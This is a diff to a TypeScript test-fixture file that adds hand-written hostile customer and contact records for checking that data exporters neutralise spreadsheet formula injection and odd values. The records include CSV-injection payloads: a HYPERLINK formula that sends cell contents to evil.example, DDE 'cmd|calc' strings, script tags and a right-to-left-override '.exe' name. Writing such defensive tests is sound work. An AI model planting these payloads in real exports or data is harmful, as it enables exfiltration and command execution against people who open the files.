@@ -2,7 +2,7 @@
  * The hostile cases every generated workspace carries: contacts and customer names that naive exporters and
  * pages get wrong, text sprinkled into names, and the ways `invalid` and `bent` break a record on purpose.
  */
-import type { RawContact } from './raw-records.ts';
+import type { RawAddress, RawContact, RawCustomer } from './raw-records.ts';
 import { asciiOf } from './vocabulary.ts';
 
 /** The ways `invalid` breaks a contact's identity, in the order they are used (then cycled). */
@@ -169,6 +169,201 @@ export const HOSTILE_TEXT: readonly string[] = [
   'Zoe\u0308',
   '👩‍💻 Dev',
 ];
+/**
+ * A customer written by hand with its addresses and contacts, for `generateWorkspace({ cases })`: each field
+ * given here replaces the generated one, and every field a case leaves out keeps its generated value.
+ */
+export interface CustomerCase {
+  customer: Partial<RawCustomer>;
+  /** True: its look-up is refused (403), so a night publishes it by id alone. */
+  unreadable?: boolean;
+  /** Its addresses, in this order. */
+  addresses: readonly Partial<RawAddress>[];
+  /** Its contacts, in this order; `addresses` lists which of the customer's addresses each one names. */
+  contacts: readonly (RawContact & { addresses?: readonly number[] })[];
+}
+
+/** The fields of a contact case that a case leaves empty rather than generated. */
+const EMPTY_CONTACT: RawContact = {
+  first_name: null,
+  last_name: null,
+  email: null,
+  phone: null,
+  role: [],
+  id_crm: null,
+  id_erp: null,
+  id_accounting: null,
+  created_at: null,
+  updated_at: null,
+};
+const contactCase = (fields: CustomerCase['contacts'][number]) => ({ ...EMPTY_CONTACT, ...fields });
+const EMPTY_ADDRESS = {
+  name: null,
+  address_line2: null,
+  city: null,
+  state: null,
+  postal_code: null,
+  country: null,
+};
+
+/**
+ * The exporters' contract (`src/testing/sample-snapshot.ts`): values every export format must carry back as they
+ * are and harmless. Formula-like text in every text column, spreadsheet tricks (fullwidth signs, leading spaces
+ * and zero-width characters, formulas after a `,`, a `;`, a tab or a line break for readers that split there),
+ * quotes, commas, tabs and line breaks inside values, markup, emoji and other scripts, control characters and a
+ * lone surrogate, ids with leading zeros or that look like numbers, the rarer ISO 8601 forms, empty values, and a
+ * customer that cannot be read. Not in every workspace: the demo's and the benchmarks' stay byte for byte what
+ * they were (test/generate-golden.test.ts).
+ */
+export const SPREADSHEET_CASES: readonly CustomerCase[] = [
+  {
+    customer: {
+      name: 'Acme "Quoted", Inc. <script>alert(1)</script>',
+      type: 'company',
+      segment_id: null,
+      id_crm: '000123',
+      id_erp: '1e5',
+      id_accounting: '0012,34',
+      tax_ids: [{ tax: 'vat', tax_value: 'FR00123456789' }],
+    },
+    addresses: [
+      {
+        ...EMPTY_ADDRESS,
+        type: 'billing',
+        address_line1: '12 rue de la Paix',
+        postal_code: '75002',
+        city: 'Paris',
+        country: 'FR',
+      },
+      {
+        ...EMPTY_ADDRESS,
+        type: 'shipping',
+        address_line1: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+        address_line2: '1 Main St',
+      },
+      // A summary is one line; the city keeps its line breaks.
+      {
+        ...EMPTY_ADDRESS,
+        type: null,
+        address_line1: 'Bâtiment B\r\n3 quai "des Célestins"',
+        postal_code: '69002',
+        city: 'Lyon\r\nCedex 02',
+        country: 'FR',
+      },
+    ],
+    contacts: [
+      contactCase({
+        first_name: 'Jean',
+        last_name: 'Dupont',
+        email: 'jean.dupont@acme.com',
+        phone: '+33 6 12 34 56 78',
+        role: ['buyer', 'signer'],
+        id_crm: '000123',
+        id_erp: '1e5',
+        id_accounting: '0012,34',
+        addresses: [0, 1],
+        created_at: '2024-01-15T10:30:00Z',
+        updated_at: '2024-03-01T08:00:00.123+02:00',
+      }),
+      contactCase({
+        first_name: '=1+1',
+        last_name: '+SUM(A1:A9)',
+        email: '@evil.example',
+        phone: '-2+3',
+        role: ['=admin', 'decision_maker'],
+        id_crm: '=HYPERLINK("http://evil.example","click")',
+        id_erp: '\t=1',
+        id_accounting: '\r=1',
+        // The rarer forms of ISO 8601 the schema accepts: a leap day, a bare fraction, a negative offset.
+        created_at: '2024-02-29T10:30:00.5+00:00',
+        updated_at: '2024-01-15T00:00:00-12:00',
+      }),
+      contactCase({
+        first_name: '＝1+1',
+        last_name: ' =1+1',
+        email: '\u200B=1+1@example.com',
+        phone: '\n+1 (555) 010-9999',
+        role: ['﹢legal'],
+        id_crm: '\uFEFF-1',
+        id_erp: '＠SUM(1)',
+        id_accounting: '－1',
+        addresses: [2],
+      }),
+      contactCase({
+        first_name: 'Zoë 👩‍💻',
+        last_name: 'O"Brien, "Jr."',
+        email: '<script>alert("x")</script>@example.com',
+        phone: '+33612345678',
+        role: ['billing'],
+        id_crm: 'a\tb',
+        id_erp: 'line1\r\nline2\nline3\rline4',
+        id_accounting: '_x0041_ and \u0007bell',
+        created_at: '1999-12-31T23:59:59.999-05:00',
+      }),
+    ],
+  },
+  {
+    customer: {
+      name: "=cmd|' /C calc'!A0",
+      type: '+individual',
+      segment_id: '@segment',
+      id_crm: '-1',
+      id_erp: '=1+1',
+      id_accounting: '\t0042',
+      tax_ids: [],
+    },
+    addresses: [
+      {
+        ...EMPTY_ADDRESS,
+        type: 'shipping',
+        address_line1: 'Bât. A;=HYPERLINK("http://evil.example/?"&A1,"Open");"=2+2"',
+        city: '=3+3\r\n@SUM(A1)',
+      },
+    ],
+    contacts: [
+      contactCase({
+        first_name: 'محمد',
+        last_name: '王伟',
+        email: 'ünïcödé@exämple.com',
+        phone: '0612345678',
+        id_crm: '\u202Egnp.exe',
+        id_erp: 'lone \uD800 surrogate',
+        id_accounting: '  padded  ',
+      }),
+      // Read by something that ignores the quotes and splits on commas, "a,=1+1," was a clean `=1+1` cell.
+      contactCase({ email: 'only.email@example.com', id_crm: 'a,=1+1,' }),
+      // Read as `;`- or tab-separated, as French and German spreadsheets read a comma file, each part after a
+      // `;` or a tab is a cell of its own: "Ann;=1+1","5;=2+2" became the formula `=1+1,5`.
+      contactCase({
+        first_name: 'Ann;=1+1',
+        last_name: '5;=2+2',
+        email: 'ann@example.com;-1',
+        phone: '+33 6 12 34 56 78;+1',
+        role: ['buyer;=cmd'],
+        id_crm: '0042; ＝1+1',
+        id_erp: 'ERP\t=cmd|calc',
+        id_accounting: '7;"=4+4"',
+        addresses: [0],
+      }),
+    ],
+  },
+  {
+    customer: {},
+    unreadable: true,
+    addresses: [],
+    contacts: [contactCase({ first_name: 'Orphan', last_name: '-' })],
+  },
+];
+
+/**
+ * Fields the API does not document, as a snapshot written by a later version may hold them: tables must leave
+ * them out. The pipeline drops them when it reads a record, so a fixture adds them to what it published.
+ */
+export const UNDOCUMENTED_CONTACT_FIELDS = {
+  nickname: '=should-stay-out-of-tables',
+  custom_fields: { tier: 'gold', score: 3 },
+} as const;
+
 /** After a specimen renamed a contact, its generated email follows the new name when that has an ASCII form. */
 export function matchEmailToName(contact: RawContact, before: RawContact): void {
   const renamed = contact.first_name !== before.first_name || contact.last_name !== before.last_name;
